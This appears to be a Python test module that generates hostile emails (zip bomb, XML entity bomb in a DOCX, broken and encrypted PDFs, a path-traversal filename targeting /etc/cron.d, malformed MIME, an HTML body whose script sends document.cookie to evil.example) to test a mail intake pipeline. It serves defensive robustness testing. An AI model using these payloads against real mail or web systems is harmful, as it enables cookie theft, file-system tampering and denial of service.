"""Hostile mail, built at test time (no binary fixture is committed): bombs, broken and huge
documents, absurd MIME. Each case is a whole message from a registered agency address with
the campaign's subject token, so it reaches every step of intake — not just the quarantine.
"""
from __future__ import annotations

import io
import os
import re
import zipfile
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

from .world import (
    CAMPAIGN_CODE,
    DOCX_TYPE,
    ICT,
    OUR_ADDRESS,
    address,
    crlf_bytes,
    report_docx,
)

MB = 1024 * 1024
SENT = datetime(2024, 12, 24, 9, 0, tzinfo=ICT)


def _mail(code: str, subject: str = "", body: str = "Kính gửi Cục Báo chí, xin gửi báo cáo.") -> EmailMessage:
    msg = EmailMessage()
    msg["From"], msg["To"] = f"Văn thư {code} <{address(code)}>", OUR_ADDRESS
    msg["Subject"] = subject or f"Re: [{CAMPAIGN_CODE} #{code}] Báo cáo"
    msg["Date"], msg["Message-ID"] = format_datetime(SENT), make_msgid(domain=f"{code.lower()}.example")
    msg.set_content(body)
    return msg


def _attach(msg: EmailMessage, data: bytes, filename: str, ctype: str = "application/octet-stream") -> None:
    maintype, subtype = ctype.split("/")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)


# ---------------------------------------------------------------- documents
def zip_bomb(megabytes: int = 300) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z, \
            z.open("bao-cao.txt", "w", force_zip64=True) as f:
        chunk = b"\0" * MB
        for _ in range(megabytes):
            f.write(chunk)
    return buf.getvalue()


def _docx_with(document_xml: bytes | None) -> bytes:
    """The report DOCX with word/document.xml replaced (None: removed)."""
    src = zipfile.ZipFile(io.BytesIO(report_docx("HOSTILE")))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename == "word/document.xml":
                if document_xml is not None:
                    out.writestr(item, document_xml)
            else:
                out.writestr(item, src.read(item))
    return buf.getvalue()


def docx_entity_bomb() -> bytes:
    lol = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [{lol}]>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           '<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>')
    return _docx_with(xml.encode())


def docx_missing_parts() -> bytes:
    return _docx_with(None)


def _pdf(pages: int, *, encrypt: str | None = None, text: str = "Báo cáo chuyển đổi số") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4, encrypt=encrypt)
    for i in range(pages):
        c.drawString(72, 770, f"{text} - trang {i + 1}")
        c.showPage()
    c.save()
    return buf.getvalue()


def pdf_broken_xref() -> bytes:
    data = _pdf(3)
    data = re.sub(rb"startxref\s+\d+", b"startxref\n999999", data)          # points nowhere
    return re.sub(rb"\n\d{10} 00000 n", b"\n0000000042 00000 n", data, count=4)  # offsets lie


def pdf_encrypted() -> bytes:
    return _pdf(2, encrypt="matkhau")


def pdf_2000_pages() -> bytes:
    return _pdf(2000)


# ---------------------------------------------------------------- the cases
def cases(codes: list[str]) -> dict[str, bytes]:
    """name -> raw message; one agency each (codes[i]), so acks and versions do not interfere."""
    build = {
        "zip bomb": lambda c: _with(c, zip_bomb(), "bao-cao.zip", "application/zip"),
        "DOCX with an XML entity bomb": lambda c: _with(c, docx_entity_bomb(), "bao-cao.docx", "/".join(DOCX_TYPE)),
        "DOCX with missing parts": lambda c: _with(c, docx_missing_parts(), "bao-cao.docx", "/".join(DOCX_TYPE)),
        "PDF with a broken xref": lambda c: _with(c, pdf_broken_xref(), "bao-cao.pdf", "application/pdf"),
        "encrypted PDF": lambda c: _with(c, pdf_encrypted(), "bao-cao.pdf", "application/pdf"),
        "2,000-page PDF": lambda c: _with(c, pdf_2000_pages(), "bao-cao.pdf", "application/pdf"),
        "50 MB attachment": lambda c: _with(c, os.urandom(50 * MB), "phu-luc.bin"),
        "500 attachments in one mail": many_attachments,
        "filename with ../ and NUL bytes": traversal_name,
        "malformed MIME boundary": bad_boundary,
        "1 MB header": huge_header,
        "invalid UTF-8 in headers": bad_utf8_headers,
        "HTML with scripts in the body": html_with_scripts,
    }
    return {name: make(code) for (name, make), code in zip(build.items(), codes)}


def _with(code: str, data: bytes, filename: str, ctype: str = "application/octet-stream") -> bytes:
    msg = _mail(code)
    _attach(msg, data, filename, ctype)
    return crlf_bytes(msg)


def many_attachments(code: str, n: int = 520) -> bytes:
    msg = _mail(code)
    _attach(msg, report_docx(code), "bao-cao.docx", "/".join(DOCX_TYPE))
    for i in range(n - 1):
        _attach(msg, os.urandom(64) + bytes([i % 256]), f"tep-{i:03d}.bin")
    return crlf_bytes(msg)


def traversal_name(code: str) -> bytes:
    msg = _mail(code)
    _attach(msg, report_docx(code), "x.docx", "/".join(DOCX_TYPE))
    raw = crlf_bytes(msg)
    evil = b"filename*=utf-8''..%2F..%2F..%2Fetc%2Fcron.d%2Freportbot%00.docx"
    return re.sub(rb'filename="x\.docx"', evil, raw)


def bad_boundary(code: str) -> bytes:
    docx = report_docx(code)
    import base64

    b64 = base64.encodebytes(docx).replace(b"\n", b"\r\n")
    return (f"From: {address(code)}\r\nTo: {OUR_ADDRESS}\r\nSubject: Re: [{CAMPAIGN_CODE} #{code}] Báo cáo\r\n"
            f"Message-ID: {make_msgid(domain='x.example')}\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="declared-but-never-used"\r\n\r\n'
            "--other-boundary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nXin gửi báo cáo.\r\n"
            "--other-boundary\r\nContent-Type: application/octet-stream; name=bc.docx\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n").encode() + b64 + b"\r\n--declared-but-nev"


def huge_header(code: str) -> bytes:
    msg = _mail(code)
    _attach(msg, report_docx(code), "bao-cao.docx", "/".join(DOCX_TYPE))
    raw = crlf_bytes(msg)
    long = b"X-Padding: " + b" ".join([b"a" * 70] * (MB // 71)) + b"\r\n"
    folded = b"Subject: Re: [" + CAMPAIGN_CODE.encode() + b" #" + code.encode() + b"] " + b"\r\n x" * (MB // 4) + b"\r\n"
    return long + folded + raw.replace(b"Subject:", b"X-Old-Subject:", 1)


def bad_utf8_headers(code: str) -> bytes:
    msg = _mail(code)
    _attach(msg, report_docx(code), "bao-cao.docx", "/".join(DOCX_TYPE))
    raw = crlf_bytes(msg)
    raw = raw.replace(b"From: ", b"From: \xff\xfe\xc3( ", 1)
    return raw.replace(b"Subject: ", b"Subject: \xed\xa0\x80\xc3 ", 1)


def html_with_scripts(code: str) -> bytes:
    from tests.sites import OUTLINE

    from .world import section_text

    sections = "".join(f"<h2>{node}. {title}</h2><p>{section_text(code, node)}</p>"
                       f"<script>alert('{node}')</script>" for node, title in OUTLINE if "." not in node)
    html = (f"<html><head><script>document.location='http://evil.example/?c='+document.cookie</script></head>"
            f"<body onload=\"alert(1)\"><p>Kính gửi Cục Báo chí</p>{sections}"
            "<img src=x onerror=alert(2)><iframe src=\"http://evil.example\"></iframe></body></html>")
    msg = _mail(code)
    msg.clear_content()
    msg.set_content(html, subtype="html")
    return crlf_bytes(msg)
